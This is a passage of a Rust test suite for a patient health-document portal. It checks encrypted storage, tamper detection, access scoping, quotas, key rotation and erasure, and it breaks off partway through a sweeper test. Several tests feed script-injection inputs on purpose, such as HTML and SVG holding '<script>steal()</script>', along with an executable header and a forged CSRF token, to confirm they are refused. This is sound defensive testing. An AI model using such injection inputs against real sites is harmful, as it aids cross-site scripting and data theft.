//! Documents through the router, on whichever database (`TIAKI_TEST_DATABASE`) and blob store
//! (`TIAKI_TEST_BLOBS`) the suite runs with: exact round trips at the chunk edges, no plaintext
//! anywhere at rest, tampering fails the download, limits and content checks refuse and keep
//! nothing, pushes are scoped and idempotent, keys rotate and erase, orphans are swept, and every
//! document route writes its audit event.

use crate::support::*;
use anyhow::{Context, Result, anyhow};
use app::domain::DocumentId;
use axum::http::{Method, StatusCode, header};
use serde_json::Value;
use sqlx::Connection;
use web::routes::ROUTES;

async fn events(w: &World) -> Result<Vec<Value>> {
    let bundle = w.t.app.console().export_audit_range(0, i64::MAX).await?;
    Ok(bundle["entry"].as_array().cloned().unwrap_or_default().into_iter().map(|e| e["resource"].clone()).collect())
}

fn patient_of(e: &Value) -> Option<String> {
    e["entity"]
        .as_array()?
        .iter()
        .find(|x| x["role"]["code"] == "1")
        .and_then(|x| x["what"]["identifier"]["value"].as_str().map(str::to_owned))
}

fn object_type(e: &Value) -> String {
    e["entity"].as_array().and_then(|a| a.last()).and_then(|x| x["description"].as_str()).unwrap_or_default().to_owned()
}

/// Uploads through the API (raw body); returns the new document's id.
async fn api_upload(b: &mut Browser, patient: &str, name: &str, bytes: &[u8]) -> Result<(StatusCode, String)> {
    let r = b
        .send(
            Method::POST,
            &format!("/api/v1/patients/{patient}/documents?filename={name}"),
            Some("application/octet-stream"),
            bytes.to_vec(),
        )
        .await?;
    let id = serde_json::from_str::<Value>(&r.body).ok().and_then(|v| v["id"].as_str().map(str::to_owned));
    Ok((r.status, id.unwrap_or_default()))
}

pub(crate) async fn sql_strings(t: &TestApp, sql: &str) -> Result<Vec<String>> {
    if t.url.starts_with("sqlite:") {
        let mut c = sqlx::SqliteConnection::connect(&t.url).await?;
        Ok(sqlx::query_scalar(sqlx::AssertSqlSafe(sql.to_owned())).fetch_all(&mut c).await?)
    } else {
        let mut c = sqlx::PgConnection::connect(&t.url).await?;
        Ok(sqlx::query_scalar(sqlx::AssertSqlSafe(sql.to_owned())).fetch_all(&mut c).await?)
    }
}

/// The blob key of a document (by its id: titles are sealed at rest).
async fn blob_key_of(t: &TestApp, id: &str) -> Result<String> {
    let hex = id.replace('-', "").to_lowercase();
    let sql = if t.url.starts_with("sqlite:") {
        format!("SELECT blob_key FROM documents WHERE lower(hex(id)) = '{hex}'")
    } else {
        format!("SELECT blob_key FROM documents WHERE replace(id::text, '-', '') = '{hex}'")
    };
    sql_strings(t, &sql).await?.pop().ok_or_else(|| anyhow!("no document {id}"))
}

pub(crate) fn files_under(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        if let Ok(rd) = std::fs::read_dir(&d) {
            for e in rd.flatten() {
                let p = e.path();
                if p.is_dir() { stack.push(p) } else { out.push(p) }
            }
        }
    }
    out
}

pub(crate) fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_round_trip_exactly_at_every_size_and_nothing_is_kept_in_clear() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 30, 1]).await?;
    let p = w.patient1.to_string();
    let marker = format!("PLAINTEXT-MARKER-{}", uuid::Uuid::new_v4().simple());
    // (An empty file is refused: review #10; see `uploads_are_bounded_in_number_and_concurrency`.)
    let mut sizes = vec![1usize, 64 * 1024 - 1, 64 * 1024, 64 * 1024 + 1, 10 * 1024 * 1024];
    sizes.sort_unstable();
    let mut kept = Vec::new();
    for n in sizes {
        let body = match n {
            1 => b"x".to_vec(),
            _ => pdf(&marker, n),
        };
        assert_eq!(body.len(), n);
        let (status, id) = api_upload(&mut p1, &p, &format!("size-{n}.pdf"), &body).await?;
        assert_eq!(status, StatusCode::CREATED, "{n} bytes");
        let (status, headers, back) = p1.get_bytes(&format!("/api/v1/documents/{id}/content"), None).await?;
        assert_eq!(status, StatusCode::OK, "{n}");
        assert_eq!(back.len(), n, "{n}");
        assert!(back == body, "{n} bytes come back identical");
        assert_eq!(headers[header::CONTENT_LENGTH], n.to_string().as_str());
        kept.push((id, body));
    }
    // Ranges across chunk edges of the 10 MiB document, and the page download of the same.
    let (id, body) = kept.last().context("the big one")?;
    for (range, from, to) in [
        ("bytes=0-0", 0usize, 0usize),
        ("bytes=65530-65545", 65530, 65545),
        ("bytes=131071-262144", 131_071, 262_144),
        ("bytes=-10", body.len() - 10, body.len() - 1),
        ("bytes=10485000-", 10_485_000, body.len() - 1),
    ] {
        let (status, headers, part) = p1.get_bytes(&format!("/documents/{id}/download"), Some(range)).await?;
        assert_eq!(status, StatusCode::PARTIAL_CONTENT, "{range}");
        assert_eq!(part, body[from..=to], "{range}");
        assert_eq!(headers[header::CONTENT_RANGE], format!("bytes {from}-{to}/{}", body.len()).as_str());
    }
    let (status, headers, _) = p1.get_bytes(&format!("/documents/{id}/download"), Some("bytes=99999999-")).await?;
    assert_eq!(status, StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(headers[header::CONTENT_RANGE], format!("bytes */{}", body.len()).as_str());
    // Served as an attachment that a browser will not render or sniff, and never cached.
    let (_, headers, _) = p1.get_bytes(&format!("/documents/{id}/download"), None).await?;
    assert!(headers[header::CONTENT_DISPOSITION].to_str()?.starts_with("attachment;"));
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(headers[header::CONTENT_SECURITY_POLICY].to_str()?.starts_with("sandbox"));
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    assert_eq!(headers[header::CONTENT_TYPE], "application/pdf");

    // A raw scan of everything at rest finds no plaintext: the blob store's files and the database.
    let blob_files = files_under(&blob_dir(&w.t.data_dir));
    assert!(blob_files.len() >= 6, "the blobs are where we look: {}", blob_dir(&w.t.data_dir).display());
    let needle = marker.as_bytes();
    for f in &blob_files {
        let bytes = std::fs::read(f)?;
        assert!(!contains(&bytes, needle), "plaintext in blob {}", f.display());
        assert!(!contains(&bytes, b"%PDF-"), "a document's header in clear in {}", f.display());
    }
    if w.t.url.starts_with("sqlite:") {
        for f in files_under(&w.t.data_dir).iter().filter(|f| f.to_string_lossy().contains("tiaki.db")) {
            assert!(!contains(&std::fs::read(f)?, needle), "plaintext in {}", f.display());
        }
    } else {
        let tables =
            sql_strings(&w.t, "SELECT table_name::text FROM information_schema.tables WHERE table_schema = 'public'")
                .await?;
        for table in tables {
            for row in sql_strings(&w.t, &format!("SELECT t::text FROM {table} t")).await? {
                assert!(!row.contains(&marker), "plaintext in table {table}");
            }
        }
    }
    eprintln!("{} / {}: round trips and raw scan of {} blobs passed", backend(), blob_backend(), blob_files.len());
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn swapped_truncated_or_flipped_blobs_fail_and_never_yield_wrong_bytes() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 31, 1]).await?;
    let mut p2 = w.signed_in("p2@example.nz", [127, 0, 31, 2]).await?;
    let one = pdf("patient one's letter", 200_000);
    let two = pdf("patient two's letter", 200_000);
    let (_, id1) = api_upload(&mut p1, &w.patient1.to_string(), "one.pdf", &one).await?;
    let (_, id2) = api_upload(&mut p2, &w.patient2.to_string(), "two.pdf", &two).await?;
    let (k1, k2) = (blob_key_of(&w.t, &id1).await?, blob_key_of(&w.t, &id2).await?);
    let blobs = w.t.app.console().blobs()?;
    let (b1, b2) = (blobs.get(&k1).await?, blobs.get(&k2).await?);
    let url1 = format!("/api/v1/documents/{id1}/content");

    // Each case: damage, try, restore.
    let mut flipped_header = b1.clone();
    flipped_header[8] ^= 1;
    let mut flipped_first = b1.clone();
    flipped_first[100] ^= 0x40;
    let mut flipped_last = b1.clone();
    let last = flipped_last.len() - 5;
    flipped_last[last] ^= 1;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("swapped with another patient's blob", b2.clone()),
        ("truncated", b1[..b1.len() - 100].to_vec()),
        ("truncated to a chunk boundary", b1[..13 + 65_552].to_vec()),
        ("extended", [b1.clone(), vec![0; 16]].concat()),
        ("header byte flipped", flipped_header),
        ("first chunk byte flipped", flipped_first),
        ("last chunk byte flipped", flipped_last),
    ];
    for (what, damaged) in cases {
        blobs.put(&k1, damaged).await?;
        let d = p1.download(&url1, None).await?;
        let got = d.bytes;
        assert!(got != one, "{what}: the download must fail");
        match d.status {
            // Caught before the first byte: an error page, no document bytes.
            StatusCode::INTERNAL_SERVER_ERROR => assert!(!contains(&got, b"%PDF"), "{what}"),
            // Caught in a later chunk: the stream breaks off with an error (a client sees a
            // broken transfer, not a short file), after a true prefix of the document.
            StatusCode::OK => {
                assert!(d.stream_error.is_some(), "{what}: the body must end in an error, not quietly");
                assert!(!got.is_empty(), "{what}: the first chunk was good, so it arrived");
                assert!(
                    got.len() < one.len() && one.starts_with(&got),
                    "{what}: whatever arrived is a prefix of the true document, never wrong bytes"
                );
            }
            other => panic!("{what}: {other}"),
        }
        assert!(!contains(&got, b"patient two"), "{what}: nothing of the other patient's document");
        blobs.put(&k1, b1.clone()).await?;
    }
    let (status, _, got) = p1.get_bytes(&url1, None).await?;
    assert_eq!(status, StatusCode::OK);
    assert!(got == one, "restored, it reads again");
    let (status, _, got) = p2.get_bytes(&format!("/api/v1/documents/{id2}/content"), None).await?;
    assert_eq!(status, StatusCode::OK);
    assert!(got == two);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_random_ids_find_nothing() -> Result<()> {
    let w = World::new().await?;
    let p1 = w.signed_in("p1@example.nz", [127, 0, 32, 1]).await?;
    let mut p2 = w.signed_in("p2@example.nz", [127, 0, 32, 2]).await?;
    let (_, theirs) = api_upload(&mut p2, &w.patient2.to_string(), "private.pdf", &pdf("secret", 5000)).await?;
    let mut ids: Vec<String> = (0..10_000).map(|_| DocumentId::random().to_string()).collect();
    ids[1234].clone_from(&theirs);
    let mut found = 0;
    for batch in ids.chunks(100) {
        let mut tasks = tokio::task::JoinSet::new();
        for (n, id) in batch.iter().enumerate() {
            let mut b = p1.clone();
            let path = if n % 2 == 0 {
                format!("/api/v1/documents/{id}/content")
            } else {
                format!("/documents/{id}/download")
            };
            tasks.spawn(async move { b.get(&path).await.map(|r| r.status) });
        }
        while let Some(r) = tasks.join_next().await {
            let status = r??;
            // Not found, or (once the detectors have suspended the session) refused outright.
            if status.is_success() || !matches!(status.as_u16(), 404 | 401 | 303) {
                found += 1;
            }
        }
    }
    assert_eq!(found, 0, "10,000 ids, including another patient's real document, and nothing is served");
    // And the session was suspended long before the end (issue 17's enumeration rule).
    let alerts = w.t.app.recent_alerts(5).await?;
    assert!(alerts.iter().any(|a| a.rule == "enumeration" && a.response == "suspend_session"), "{alerts:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pushes_are_scoped_idempotent_and_refused_outside_scope() -> Result<()> {
    let w = World::new().await?;
    // Pushing the fixture letter again: nothing new.
    let r = push(&w.t, &w.client_a, &push_meta("ZZZ0016", "letter-1"), &pdf("letter one", 3000)).await?;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains(&w.letter1.to_string()) && r.body.contains("\"created\":false"));
    // Practice A's system cannot push for practice B's patient; practice B's cannot for A's.
    let (_, client_b) = w.t.app.console().create_client("B PMS", "", "Practice B", Some("FBB222-B")).await?;
    let r = push(&w.t, &w.client_a, &push_meta("ZBN77VL", "x-1"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let r = push(&w.t, &client_b, &push_meta("ZZZ0016", "x-2"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let r = push(&w.t, &client_b, &push_meta("ZAA0067", "x-3"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "an NHI nobody has enrolled");
    // A hospital reaches only the patients of practices that agreed to receive from it.
    let (hospital, hospital_token) =
        w.t.app
            .console()
            .create_client("Whangārei Hospital discharges", "G00042-K", "Te Whatu Ora Te Tai Tokerau", None)
            .await?;
    let r = push(&w.t, &hospital_token, &push_meta("ZZZ0016", "dis-1"), &pdf("discharge", 4000)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "no agreement yet");
    w.t.app.console().add_agreement("FAA111-A", "G00042-K").await?;
    let r = push(&w.t, &hospital_token, &push_meta("ZZZ0016", "dis-1"), &pdf("discharge", 4000)).await?;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let r = push(&w.t, &hospital_token, &push_meta("ZBN77VL", "dis-2"), &pdf("discharge", 4000)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "practice B did not agree");
    // A system names only its own organisation as the document's controller (review #21).
    let claim = push_meta("ZZZ0016", "dis-9").replace(
        r#""source_document_id""#,
        r#""controller_id":"G00001-A","controller_name":"Someone Else","source_document_id""#,
    );
    let r = push(&w.t, &hospital_token, &claim, &pdf("discharge", 4000)).await?;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("your organisation's HPI id (G00042-K)"), "{}", r.body);
    let own = claim.replace("G00001-A", "g00042-k");
    assert_eq!(push(&w.t, &hospital_token, &own, &pdf("discharge", 4000)).await?.status, StatusCode::CREATED);
    // Text that looks sealed is sealed like any other, and shown as sent (not a broken list).
    let odd = push_meta("ZZZ0016", "dis-odd")
        .replace("\"title\":\"Discharge summary\"", "\"title\":\"sealed:v1:odd\"")
        .replace("Dr Hospital Person", "sealed:v1:x");
    assert_eq!(push(&w.t, &hospital_token, &odd, &pdf("odd", 900)).await?.status, StatusCode::CREATED);
    // A practice's own system acts for that practice only.
    let other_org = w.t.app.console().create_client("PMS", "G00001-A", "Practice A", Some("FAA111-A")).await;
    assert!(matches!(other_org, Err(app::AppError::Invalid(_))), "{other_org:?}");
    // The patient sees it with its source and controller; practice A's staff see only what A sent.
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 33, 1]).await?;
    let list = p1.get(&format!("/api/v1/patients/{}/documents", w.patient1)).await?;
    let docs: Vec<Value> = serde_json::from_str(&list.body)?;
    assert_eq!(docs.len(), 4);
    assert!(docs.iter().any(|d| d["title"] == "sealed:v1:odd" && d["author"] == "sealed:v1:x"));
    assert!(docs.iter().any(|d| d["controller"] == "Te Whatu Ora Te Tai Tokerau" && d["controller_id"] == "G00042-K"));
    assert!(docs.iter().all(|d| d["controller"] != "Someone Else"));
    let mut staff_a = w.signed_in("admin-a@example.nz", [127, 0, 33, 2]).await?;
    let theirs: Vec<Value> =
        serde_json::from_str(&staff_a.get(&format!("/api/v1/patients/{}/documents", w.patient1)).await?.body)?;
    assert_eq!(theirs.len(), 1, "staff see what their practice pushed, not the hospital's letter");
    // The practice stops receiving from the hospital: the next push is refused, the letter stays
    // the patient's (`tiaki admin revoke-agreement`); agreeing again restores it.
    let console = w.t.app.console();
    console.remove_agreement("FAA111-A", "g00042-k").await?;
    assert!(console.remove_agreement("FAA111-A", "G00042-K").await.is_err(), "there is none left");
    let r = push(&w.t, &hospital_token, &push_meta("ZZZ0016", "dis-r"), &pdf("discharge", 4000)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "no agreement, no push");
    let list = p1.get(&format!("/api/v1/patients/{}/documents", w.patient1)).await?;
    assert_eq!(serde_json::from_str::<Vec<Value>>(&list.body)?.len(), 4, "what was sent stays the patient's");
    console.add_agreement("FAA111-A", "G00042-K").await?;
    // Bad metadata is explained; markup is refused; neither keeps anything.
    let r = push(&w.t, &hospital_token, r#"{"nhi":"nope","category":"x"}"#, &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let mut bad = push_meta("ZZZ0016", "dis-3");
    bad = bad.replace("2025-11-30", "30/11/2025");
    let r = push(&w.t, &hospital_token, &bad, &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.body.contains("clinical_date"));
    let r =
        push(&w.t, &hospital_token, &push_meta("ZZZ0016", "dis-4"), b"<html><script>alert(1)</script></html>").await?;
    assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    // Rotation and revocation.
    let new_token = w.t.app.console().rotate_client(hospital.id).await?;
    let r = push(&w.t, &hospital_token, &push_meta("ZZZ0016", "dis-5"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED, "the old secret stops working");
    let r = push(&w.t, &new_token, &push_meta("ZZZ0016", "dis-5"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::CREATED);
    w.t.app.console().revoke_client(hospital.id).await?;
    let r = push(&w.t, &new_token, &push_meta("ZZZ0016", "dis-6"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let r = push(&w.t, "tiaki_nonsense", &push_meta("ZZZ0016", "dis-6"), &pdf("x", 100)).await?;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let stored = sql_strings(&w.t, "SELECT title FROM documents").await?;
    assert_eq!(stored.len(), 5, "the letter, the discharge summaries dis-1, dis-9 and dis-odd, and dis-5: {stored:?}");
    // One source identifier names one document: reused for another patient, or re-sent after a
    // withdrawal, it is a clear conflict, not a silent success.
    let r = push(&w.t, &w.client_a, &push_meta("ZAA0067", "letter-1"), &pdf("other", 100)).await?;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "ZAA0067 is not enrolled at A");
    enrol(&w.t, w.practice_a, "ZAA0067", "third@example.nz").await?;
    let r = push(&w.t, &w.client_a, &push_meta("ZAA0067", "letter-1"), &pdf("other", 100)).await?;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(r.body.contains("another patient"));
    // Withdrawing is a clinical decision: the practice's GP does it (reception may not).
    let mut gp_a = w.signed_in("gp-a@example.nz", [127, 0, 33, 3]).await?;
    gp_a.get(&format!("/patients/{}/documents", w.patient1)).await?;
    assert_eq!(staff_a.post(&format!("/documents/{}/withdraw", w.letter1), &[]).await?.status, StatusCode::NOT_FOUND);
    assert_eq!(gp_a.post(&format!("/documents/{}/withdraw", w.letter1), &[]).await?.status, StatusCode::SEE_OTHER);
    let r = push(&w.t, &w.client_a, &push_meta("ZZZ0016", "letter-1"), &pdf("letter one", 3000)).await?;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert!(r.body.contains("withdrawn"));
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_and_content_checks_refuse_clearly_and_keep_nothing() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 34, 1]).await?;
    let docs_page = format!("/patients/{}/documents", w.patient1);
    p1.get(&docs_page).await?;
    for (name, bytes, want) in [
        ("page.html", b"<!DOCTYPE html><html><script>steal()</script></html>".to_vec(), "Web pages and SVG"),
        (
            "pic.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>".to_vec(),
            "Web pages and SVG",
        ),
        ("prog.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec(), "not accepted"),
    ] {
        let r = p1.upload(&docs_page, name, &bytes).await?;
        assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{name}");
        assert!(r.body.contains(want), "{name}: the page says why");
    }
    // Too large for one document (the suite's limit is 16 MiB).
    let big = pdf("big", 16 * 1024 * 1024 + 1);
    let (status, _) = api_upload(&mut p1, &w.patient1.to_string(), "big.pdf", &big).await?;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // The API takes only file types, not JSON or forms.
    let r = p1
        .send(
            Method::POST,
            &format!("/api/v1/patients/{}/documents", w.patient1),
            Some("application/json"),
            b"{}".to_vec(),
        )
        .await?;
    assert_eq!(r.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    // A wrong CSRF token on the upload form is refused before anything is read.
    p1.csrf = Some("0".repeat(64));
    let r = p1.upload(&docs_page, "ok.pdf", &pdf("fine", 100)).await?;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    // Nothing was kept: no patient document rows, no blob beyond the fixture letter's, no intent.
    let rows = sql_strings(&w.t, "SELECT title FROM documents WHERE category = 'patient_upload'").await?;
    assert!(rows.is_empty(), "{rows:?}");
    assert_eq!(sql_strings(&w.t, "SELECT blob_key FROM blob_intents").await?.len(), 0);
    assert_eq!(w.t.app.console().blobs()?.list().await?.len(), 1, "only the fixture letter's blob");
    // And a good upload from the page works, and shows in the list.
    p1.get(&docs_page).await?;
    let r = p1.upload(&docs_page, "My scan.pdf", &pdf("a scan", 5000)).await?;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = p1.get(&docs_page).await?;
    assert!(page.body.contains("My scan.pdf"), "the upload is listed");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_quota_counts_a_patients_own_uploads_and_never_blocks_what_providers_send() -> Result<()> {
    let w = World::with_limits(1024 * 1024, 2 * 1024 * 1024).await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 41, 1]).await?;
    let p = w.patient1.to_string();
    for n in 0..2 {
        let (status, _) = api_upload(&mut p1, &p, &format!("scan-{n}.pdf"), &pdf("scan", 1024 * 1024)).await?;
        assert_eq!(status, StatusCode::CREATED, "upload {n}");
    }
    let (status, _) = api_upload(&mut p1, &p, "one-too-many.pdf", &pdf("scan", 1000)).await?;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "the 2 MiB of uploads is used");
    let r = push(&w.t, &w.client_a, &push_meta("ZZZ0016", "after-quota"), &pdf("letter", 900_000)).await?;
    assert_eq!(r.status, StatusCode::CREATED, "a provider's letter still arrives: {}", r.body);
    let (status, _) = api_upload(&mut p1, &p, "big.pdf", &pdf("big", 1024 * 1024 + 1)).await?;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    // Several uploads racing for the last of the space: never more than the quota is kept.
    let list: Vec<Value> = serde_json::from_str(&p1.get(&format!("/api/v1/patients/{p}/documents")).await?.body)?;
    let scan1 =
        list.iter().find(|d| d["title"] == "scan-1.pdf").and_then(|d| d["id"].as_str()).unwrap_or_default().to_owned();
    p1.get(&format!("/patients/{p}/documents")).await?;
    assert_eq!(p1.post(&format!("/documents/{scan1}/delete"), &[]).await?.status, StatusCode::SEE_OTHER);
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..4 {
        let mut b = p1.clone();
        let p = p.clone();
        tasks.spawn(async move { api_upload(&mut b, &p, &format!("race-{n}.pdf"), &pdf("race", 600 * 1024)).await });
    }
    let mut created = 0;
    while let Some(r) = tasks.join_next().await {
        if r??.0 == StatusCode::CREATED {
            created += 1;
        }
    }
    assert_eq!(created, 1, "1 MiB free takes one 600 KiB upload, however they race");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn patients_rename_hide_and_delete_but_cannot_delete_clinical_documents() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 35, 1]).await?;
    let page = format!("/patients/{}/documents", w.patient1);
    let (_, mine) = api_upload(&mut p1, &w.patient1.to_string(), "scan.pdf", &pdf("scan", 1000)).await?;
    p1.get(&page).await?;
    let r = p1.post(&format!("/documents/{mine}/rename"), &[("title", "Blood test, March")]).await?;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(p1.get(&page).await?.body.contains("Blood test, March"));
    let r = p1.post(&format!("/documents/{mine}/rename"), &[("title", "")]).await?;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    // The letter from the practice can be hidden and shown, not deleted nor renamed: its staff see
    // its title too (review #22).
    let letter = w.letter1.to_string();
    let r = p1.post(&format!("/documents/{letter}/rename"), &[("title", "Cancelled, ignore")]).await?;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert!(r.body.contains("keep the title they were sent with"));
    let mut gp_a = w.signed_in("gp-a@example.nz", [127, 0, 35, 3]).await?;
    let staff_view = gp_a.get(&page).await?.body;
    assert!(staff_view.contains("Discharge summary") && !staff_view.contains("Cancelled, ignore"));
    assert_eq!(p1.post(&format!("/documents/{letter}/delete"), &[]).await?.status, StatusCode::CONFLICT);
    p1.post(&format!("/documents/{letter}/hide"), &[]).await?;
    assert!(!p1.get(&page).await?.body.contains("Discharge summary</a>"), "hidden from the list");
    assert!(p1.get(&format!("{page}?hidden=1")).await?.body.contains("(hidden)"));
    p1.post(&format!("/documents/{letter}/hide"), &[("show", "1")]).await?;
    assert!(p1.get(&page).await?.body.contains("Discharge summary"));
    // Deleting an upload removes it and its blob.
    let key = blob_key_of(&w.t, &mine).await?;
    assert_eq!(p1.post(&format!("/documents/{mine}/delete"), &[]).await?.status, StatusCode::SEE_OTHER);
    assert_eq!(p1.get(&format!("/api/v1/documents/{mine}/content")).await?.status, StatusCode::NOT_FOUND);
    assert!(w.t.app.console().blobs()?.get(&key).await.is_err(), "the blob is gone");
    // The practice withdraws its letter; the patient no longer sees it.
    let mut gp = w.signed_in("gp-a@example.nz", [127, 0, 35, 2]).await?;
    gp.get(&page).await?;
    assert_eq!(gp.post(&format!("/documents/{letter}/withdraw"), &[]).await?.status, StatusCode::SEE_OTHER);
    assert_eq!(p1.get(&format!("/api/v1/documents/{letter}/content")).await?.status, StatusCode::NOT_FOUND);
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keys_rotate_without_touching_blobs_and_erasure_shreds_everything() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 36, 1]).await?;
    let body = pdf("rotating", 150_000);
    let (_, id) = api_upload(&mut p1, &w.patient1.to_string(), "keep.pdf", &body).await?;
    let url = format!("/api/v1/documents/{id}/content");
    let key = blob_key_of(&w.t, &id).await?;
    let blob_before = w.t.app.console().blobs()?.get(&key).await?;
    // A new patient key: the data keys are re-wrapped, the blob is untouched, it still reads.
    assert_eq!(w.t.app.console().rotate_patient_key("ZZZ0016").await?, 2, "the letter and the upload");
    assert!(p1.get_bytes(&url, None).await?.2 == body);
    // A new master key file, with the portal running: patient keys re-wrapped, blobs untouched.
    // (With a token the master key never leaves it; its rotation is a new key label.)
    if key_backend() == "file" {
        app::keyfile::begin_master_rotation(&w.t.data_dir)?;
        let n = w.t.app.console().rewrap_patient_keys(|_| {}).await?;
        assert!(n >= 1);
        assert_eq!(w.t.app.console().keys_left_to_rewrap().await?, 0);
        app::keyfile::finish_master_rotation(&w.t.data_dir)?;
        assert!(p1.get_bytes(&url, None).await?.2 == body, "still readable under the new master key");
        assert!(w.t.app.console().blobs()?.get(&key).await? == blob_before, "no blob was re-encrypted");
        // A patient key made by a node that had not yet seen the rotation is still readable:
        // the retired key keeps unwrapping until its file is destroyed.
        assert!(w.t.data_dir.join("retired-keys").read_dir()?.count() == 1);
    }
    // Rotations racing uploads: whatever was acknowledged stays readable (a commit under the old
    // key version either lands before the rotation and is re-wrapped, or is refused; a rotation
    // that would strand a document is refused instead).
    // (Three at once: the most one account may have arriving.)
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..3 {
        let mut b = p1.clone();
        let p = w.patient1.to_string();
        tasks.spawn(async move {
            api_upload(&mut b, &p, &format!("race-{n}.pdf"), &pdf(&format!("race {n}"), 90_000)).await
        });
    }
    let mut rotations = 0;
    for attempt in 0..20 {
        if attempt >= 3 && rotations > 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        match w.t.app.console().rotate_patient_key("ZZZ0016").await {
            Ok(_) => rotations += 1,
            Err(e) => eprintln!("rotation refused: {e:?}"),
        }
    }
    let mut acknowledged = Vec::new();
    while let Some(r) = tasks.join_next().await {
        let (status, id) = r??;
        assert!(status == StatusCode::CREATED || status == StatusCode::CONFLICT, "{status}");
        if status == StatusCode::CREATED {
            acknowledged.push(id);
        }
    }
    assert!(rotations >= 1, "at least one rotation goes through");
    assert!(!acknowledged.is_empty(), "at least one upload goes through");
    for id in acknowledged {
        // Every byte of it, not only the first chunk (a broken stream is an error here).
        let (status, _, got) = p1.get_bytes(&format!("/api/v1/documents/{id}/content"), None).await?;
        assert_eq!(status, StatusCode::OK, "{id}");
        let n = (0..6).find(|n| got == pdf(&format!("race {n}"), 90_000));
        assert!(n.is_some(), "{id}: an acknowledged upload reads back whole and unchanged");
    }
    // Erasure: every document of the patient is unreadable, cleanly.
    assert!(w.t.app.console().erase_patient_key("ZZZ0016").await? >= 1);
    let (status, _, got) = p1.get_bytes(&url, None).await?;
    assert_eq!(status, StatusCode::GONE);
    assert!(!contains(&got, b"rotating"));
    let r = p1.get(&format!("/documents/{}/download", w.letter1)).await?;
    assert_eq!(r.status, StatusCode::GONE);
    assert!(r.body.contains("key has been destroyed"));
    let (status, _) = api_upload(&mut p1, &w.patient1.to_string(), "more.pdf", &pdf("more", 100)).await?;
    assert_eq!(status, StatusCode::GONE, "nothing more is taken for an erased record");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sweeper_removes_abandoned_and_stray_blobs_and_nothing_else() -> Result<()> {
    let w = World::new().await?;
    let mut p1 = w.signed_in("p1@example.nz", [127, 0, 37, 1]).await?;
    let (_, id) = api_upload(&mut p1, &w.patient1.to_string(), "stay.pdf", &pdf("stay", 70_000)).await?;
    let blobs = w.t.app.console().blobs()?;
    // A crash after the blob was written but before its row: an intent and a blob.
    let abandoned = app::documents::blobs::Blobs::new_key();
    sql_strings(
        &w.t,
